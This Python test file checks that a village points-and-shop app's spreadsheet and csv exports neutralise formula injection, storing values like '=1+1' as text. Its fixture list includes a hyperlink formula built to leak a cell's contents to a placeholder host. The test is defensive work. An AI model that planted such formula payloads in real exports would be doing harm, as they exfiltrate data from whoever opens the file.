"""No export carries a live formula: a name like =HYPERLINK(…) is written as text in every .xlsx and .csv."""
from __future__ import annotations

import csv
import io

import openpyxl

from pointsapp import clock
from pointsapp.models import Household, Product
from pointsapp.services import audit, periods
from pointsapp.services.exports import cells
from pointsapp.services.exports.ledger import export_ledger
from pointsapp.services.exports.roster import export_households
from pointsapp.services.exports.shop import by_household_xlsx, daily_close_xlsx, inventory_xlsx
from pointsapp.services.reports import monthly
from pointsapp.services.shop import redemption
from tests.conftest import admin_with_password
from tests.cli_helpers import run_cli
from tests.shop_helpers import make_household, make_shop

HOSTILE = ['=HYPERLINK("http://x/?"&D2,"点我")', "=1+1", "+1+1", "@SUM(1)", "-2+3"]


def _hostile_data(admin):
    shop = make_shop(admin)
    for i, name in enumerate(HOSTILE):
        make_household(admin, shop["village"], f"0200{i}", "王五", 10)
        # names already in a database (written before names were checked at the door) still export safely
        Household.update(head_name=name).where(Household.household_no == f"0200{i}").execute()
    Product.update(name="=1+1").where(Product.sku == shop["skus"]["食盐"]).execute()
    redemption.redeem(actor=admin, card_payload=shop["rich_card"], items=[(shop["skus"]["食盐"], 1)])
    return shop


def _assert_no_formula(path, must_hold=()):
    assert cells.formulas_in(path) == []
    book = openpyxl.load_workbook(path)
    texts = {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in must_hold:  # kept as the text it is, not dropped or mangled
        assert text in texts, text
    numbers = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row
               if isinstance(c.value, (int, float))]
    return numbers


def test_every_export_writes_formula_like_names_as_text(db, admin, tmp_path):
    from pointsapp.services.credit.village_list import village_list_xlsx

    shop = _hostile_data(admin)
    today = clock.today()
    roster = export_households(actor=admin, path=tmp_path / "roster.xlsx").path
    _assert_no_formula(roster, HOSTILE)
    export_ledger(actor=admin, path=tmp_path / "ledger.xlsx")
    _assert_no_formula(tmp_path / "ledger.xlsx", HOSTILE)
    _assert_no_formula(inventory_xlsx(actor=admin, path=tmp_path / "inv.xlsx"), ["=1+1"])
    numbers = _assert_no_formula(daily_close_xlsx(actor=admin, day=today, path=tmp_path / "close.xlsx"), ["=1+1"])
    assert numbers, "counts and points stay numbers"
    _assert_no_formula(by_household_xlsx(actor=admin, path=tmp_path / "hh.xlsx", start=today, end=today))
    _assert_no_formula(audit.export_xlsx(actor=admin, path=tmp_path / "audit.xlsx"))
    table = monthly.monthly_report(actor=admin, month=periods.month(today)).table()
    _assert_no_formula(monthly.export_xlsx(table, tmp_path / "monthly.xlsx"))
    village_list_xlsx(actor=admin, village_id=shop["village"].id, path=tmp_path / "credit.xlsx")  # 整村授信
    _assert_no_formula(tmp_path / "credit.xlsx", HOSTILE)


def test_negative_numbers_stay_numbers_and_unstorable_characters_do_not_fail_the_export(tmp_path):
    book = openpyxl.Workbook()
    cells.append(book.active, [-5, "-5", "张\x07三", "=1+1"])
    book.save(tmp_path / "a.xlsx")
    row = [c for c in openpyxl.load_workbook(tmp_path / "a.xlsx").active[1]]
    assert [c.value for c in row] == [-5, "-5", "张\ufffd三", "=1+1"]
    assert row[0].data_type == "n" and row[1].data_type == "s" and row[3].data_type == "s"
    out = io.StringIO()
    cells.write_csv(out, [[-5, "-5", "=1+1", "@x", "\tx", "\rx", "张三"]])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["-5", "'-5", "'=1+1", "'@x", "'\tx", "'\rx", "张三"]


def test_command_line_csv_output_holds_no_formula(db_target, tmp_path):
    from pointsapp.db import close_database, open_database

    open_database(db_target)
    admin = admin_with_password()
    _hostile_data(admin)
    close_database()
    done = run_cli("households", "list", "--format", "csv", db=db_target)
    assert done.returncode == 0, done.stderr
    fields = [f for row in csv.reader(io.StringIO(done.stdout)) for f in row]
    assert not [f for f in fields if f.startswith(("=", "+", "-", "@"))]
    assert "'=1+1" in fields
    out = tmp_path / "inv.xlsx"
    done = run_cli("shop", "inventory", "--out", str(out), db=db_target)
    assert done.returncode == 0, done.stderr
    _assert_no_formula(out, ["=1+1"])
